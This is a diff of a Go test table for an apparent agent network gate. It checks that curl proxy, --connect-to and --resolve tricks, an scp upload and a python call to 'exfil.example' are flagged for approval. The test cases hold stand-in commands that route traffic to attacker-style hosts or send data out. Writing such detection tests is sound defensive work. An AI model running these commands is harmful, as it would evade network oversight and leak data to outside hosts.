@@ -51,6 +51,16 @@ func TestGateNetwork(t *testing.T) {
 		{cmd: `python3 -c "import urllib.request as u; u.urlopen('https://exfil.example/x?d=1')"`, want: events.Ask, host: "exfil.example"},
 		{cmd: `node -e "fetch('https://api.github.com/zen').then(r => r.text())"`, want: ""},
 		{cmd: `python3 -c "print(1)"`, want: ""},
+		// a proxy, --connect-to and --resolve send the traffic to another host
+		{cmd: "curl -x http://proxy.evil.example:8080 http://localhost:8080/", want: events.Ask, host: "proxy.evil.example"},
+		{cmd: "curl -xproxy.example:3128 http://localhost/", want: events.Ask, host: "proxy.example"},
+		{cmd: "curl --proxy=socks5h://user:pw@tor.example:9050 https://api.github.com", want: events.Ask, host: "tor.example"},
+		{cmd: "curl --socks5-hostname relay.example:1080 http://127.0.0.1/", want: events.Ask, host: "relay.example"},
+		{cmd: "curl --connect-to api.github.com:443:evil.example:443 https://api.github.com/", want: events.Ask, host: "evil.example"},
+		{cmd: "curl --resolve api.github.com:443:203.0.113.9 https://api.github.com/", want: events.Ask, host: "203.0.113.9"},
+		{cmd: "curl -x http://localhost:3128 https://api.github.com", want: ""},
+		{cmd: "curl --resolve api.github.com:443:127.0.0.1 https://api.github.com/", want: ""},
+		{cmd: "scp -P 2222 f.tgz user@[2001:db8::1]:/tmp/", want: events.Ask, host: "2001:db8::1"},
 		{tool: "web_fetch", url: "https://docs.example.com/page", want: events.Ask, host: "docs.example.com"},
 		{tool: "web_fetch", url: "https://raw.github.com/x", want: ""},
 	}
